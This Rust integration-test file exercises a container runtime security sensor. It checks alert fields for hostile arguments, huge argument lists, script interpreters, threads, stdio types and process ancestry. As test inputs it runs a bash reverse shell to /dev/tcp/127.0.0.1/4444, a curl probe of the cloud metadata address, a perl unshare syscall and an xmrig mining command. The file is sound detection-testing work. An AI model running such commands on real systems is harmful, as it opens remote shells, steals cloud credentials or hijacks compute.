//! What an alert tells about its event, whatever a process throws at it.

use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use serde_json::{Value, json};
use vigie_tests::{Alert, Outcome, Place, Root, Workload, shared};

const EICAR: &str = "K8S.NODE_EICAR";

/// Runs a script that has `$T`, the name of a copy of `echo` that raises the test alert.
fn run(place: Place, script: &str) -> Result<Outcome> {
    let script = format!("T=/tmp/{}; cp /bin/echo $T\n{script}", shared::EICAR);
    Workload::new(&Root::debian()?, place).script(&script)
}

/// Runs such a script in both places and looks at the alerts.
fn check(test: &str, script: &str, look: impl Fn(&Alert, &Outcome) -> Result<()>) -> Result<()> {
    let Some(sensor) = shared::live(test)? else {
        return Ok(());
    };
    for place in Place::BOTH {
        let outcome = run(place, script)?;
        let alert = shared::expect(sensor, &outcome, EICAR, |_| true)?;
        look(&alert, &outcome)?;
    }
    let garbage = sensor.garbage();
    ensure!(garbage.is_empty(), "not JSON: {garbage:?}");
    Ok(())
}

fn same(alert: &Alert, pointer: &str, expected: &Value) -> Result<()> {
    let found = alert.field(pointer);
    ensure!(
        found == expected,
        "{pointer} is {found}, not {expected}, in {:#}",
        alert.json
    );
    Ok(())
}

/// The result of a connect is null where the kernel's hook comes before it is known.
fn result(alert: &Alert, expected: &str) -> Result<()> {
    match alert.field("/connection/result") {
        Value::Null => Ok(()),
        _ => same(alert, "/connection/result", &json!(expected)),
    }
}

#[test]
fn hostile_arguments() -> Result<()> {
    let script = r"$T $'two\nlines' $'\e[31mred\e]0;title\a' $'\xff\xfe' '' '{}' > /dev/null";
    check("hostile_arguments", script, |alert, _| {
        same(alert, "/process/args/1", &json!("two\nlines"))?;
        same(
            alert,
            "/process/args/2",
            &json!("\u{1b}[31mred\u{1b}]0;title\u{7}"),
        )?;
        ensure!(alert.process().args.len() == 6, "{:#}", alert.json);
        ensure!(
            !alert
                .process()
                .args
                .iter()
                .skip(3)
                .take(1)
                .all(String::is_empty)
        );
        same(alert, "/process/args/4", &json!(""))?;
        same(alert, "/process/args/5", &json!("{}"))?;
        same(alert, "/process/args_truncated", &json!(false))
    })
}

#[test]
fn an_argument_of_128_kib() -> Result<()> {
    // The kernel takes 131072 bytes with the NUL at most.
    let script = r#"$T "$(head -c 131071 /dev/zero | tr '\0' a)" > /dev/null"#;
    check("an_argument_of_128_kib", script, |alert, _| {
        let name = format!("/tmp/{}", shared::EICAR);
        same(alert, "/process/args/0", &json!(name))?;
        same(alert, "/process/args_truncated", &json!(true))?;
        let kept = alert.process().args.get(1).map_or(0, String::len);
        ensure!(kept >= 4000, "only {kept} bytes are kept");
        Ok(())
    })
}

#[test]
fn ten_thousand_arguments() -> Result<()> {
    check(
        "ten_thousand_arguments",
        "$T $(seq 10000) > /dev/null",
        |alert, _| {
            same(alert, "/process/args/1", &json!("1"))?;
            same(alert, "/process/args/500", &json!("500"))?;
            same(alert, "/process/args_truncated", &json!(true))
        },
    )
}

#[test]
fn a_script_and_its_interpreter() -> Result<()> {
    let script = "printf '#!/bin/sh\\necho \"$@\"\\n' > $T; chmod +x $T; $T testing";
    check("a_script_and_its_interpreter", script, |alert, _| {
        same(
            alert,
            "/process/script",
            &json!(format!("/tmp/{}", shared::EICAR)),
        )?;
        same(alert, "/process/interpreter", &json!("/bin/sh"))?;
        same(alert, "/process/executable", &json!("/usr/bin/dash"))
    })
}

#[test]
fn an_exec_from_a_thread() -> Result<()> {
    let script = "cat > /tmp/t.py <<'.'\n\
                  import os, sys, threading\n\
                  print(os.getpid(), flush=True)\n\
                  run = lambda: os.execv(sys.argv[1], [sys.argv[1], 'thread'])\n\
                  threading.Thread(target=run).start()\n\
                  threading.Event().wait()\n\
                  .\n\
                  python3 /tmp/t.py $T; true";
    check("an_exec_from_a_thread", script, |alert, outcome| {
        let pid: u32 = outcome.stdout.lines().next().unwrap_or_default().parse()?;
        same(alert, "/process/namespace_pid", &json!(pid))?;
        same(alert, "/process/args/1", &json!("thread"))
    })
}

#[test]
fn standard_streams() -> Result<()> {
    let script = "$T a < /dev/null 2> /tmp/file | cat";
    check("standard_streams", script, |alert, _| {
        same(alert, "/process/stdio/0/type", &json!("device"))?;
        same(alert, "/process/stdio/1/type", &json!("pipe"))?;
        same(alert, "/process/stdio/2/type", &json!("file"))
    })
}

#[test]
fn ancestors_are_named() -> Result<()> {
    check(
        "ancestors_are_named",
        "bash -c \"sh -c '$T nested; true'; true\"",
        |alert, _| {
            let names: Vec<&str> = alert
                .process()
                .ancestors
                .iter()
                .filter_map(|ancestor| ancestor.executable.as_deref())
                .take(3)
                .collect();
            ensure!(
                names == ["/usr/bin/dash", "/usr/bin/bash", "/usr/bin/bash"],
                "{names:?}"
            );
            Ok(())
        },
    )
}

#[test]
fn a_refused_connection_is_an_attempt() -> Result<()> {
    let Some(sensor) = shared::live("a_refused_connection_is_an_attempt")? else {
        return Ok(());
    };
    for place in Place::BOTH {
        let workload = Workload::new(&Root::debian()?, place);
        let outcome = workload.script("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; true")?;
        let alert = shared::expect(sensor, &outcome, "K8S.NODE_ReverseShell", |alert| {
            alert.peer().is_some_and(|peer| peer.port == Some(4444))
        })?;
        result(&alert, "ECONNREFUSED")?;
    }
    Ok(())
}

#[test]
fn a_connection_without_route_is_an_attempt() -> Result<()> {
    let Some(sensor) = shared::live("a_connection_without_route_is_an_attempt")? else {
        return Ok(());
    };
    let workload = Workload::container(&Root::debian()?);
    let outcome = workload.script("curl -s -m 1 http://169.254.169.254/; true")?;
    let alert = shared::expect(sensor, &outcome, "K8S.NODE_ImdsCall", |alert| {
        alert.peer().is_some()
    })?;
    result(&alert, "ENETUNREACH")
}

#[test]
fn a_refused_namespace_is_an_attempt() -> Result<()> {
    let Some(sensor) = shared::live("a_refused_namespace_is_an_attempt")? else {
        return Ok(());
    };
    let by_capability = Workload::container(&Root::debian()?);
    let by_seccomp = by_capability.clone().refuse("unshare");
    for workload in [by_capability, by_seccomp] {
        let outcome = workload.script("perl -e 'syscall(272, 0x40000000)'; true")?;
        let alert = shared::expect(sensor, &outcome, "K8S.NODE_NamespaceCreation", |alert| {
            alert.process().executable.as_deref() == Some("/usr/bin/perl")
        })?;
        same(&alert, "/namespaces/operation", &json!("unshare"))?;
        same(&alert, "/namespaces/types", &json!(["net"]))?;
        same(&alert, "/namespaces/result", &json!("EPERM"))?;
    }
    Ok(())
}

#[test]
fn a_tool_that_is_not_there_is_an_attempt() -> Result<()> {
    let Some(sensor) = shared::live("a_tool_that_is_not_there_is_an_attempt")? else {
        return Ok(());
    };
    for place in Place::BOTH {
        let workload = Workload::new(&Root::debian()?, place);
        let outcome = workload.script("env /opt/xmrig -o stratum+tcp://192.0.2.1:3333; true")?;
        let alert = shared::expect(
            sensor,
            &outcome,
            "K8S.NODE_DigitalCurrencyMining",
            |alert| !alert.field("/exec_failed").is_null(),
        )?;
        same(&alert, "/exec_failed/path", &json!("/opt/xmrig"))?;
        same(&alert, "/exec_failed/result", &json!("ENOENT"))?;
    }
    Ok(())
}

#[test]
fn a_command_in_a_running_container_is_of_that_container() -> Result<()> {
    let Some(sensor) = shared::live("a_command_in_a_running_container_is_of_that_container")?
    else {
        return Ok(());
    };
    let running = Workload::container(&Root::busybox()?).start(&["sleep", "60"])?;
    let start = Instant::now();
    while !running.exec(&["true"])?.status.success() {
        ensure!(
            start.elapsed() < Duration::from_secs(10),
            "the container does not start"
        );
    }
    let name = format!("/tmp/{}", shared::EICAR);
    running.exec(&["cp", "/bin/busybox", &name])?;
    running.exec(&[&name, "testing"])?;
    let (container, pod) = (running.container(), running.pod_uid());
    let alert = sensor.alert_until(Duration::from_secs(5), |alert| {
        alert.alert_type() == EICAR && alert.container_id() == container
    })?;
    ensure!(alert.pod_uid() == pod && pod.is_some(), "{:#}", alert.json);
    Ok(())
}
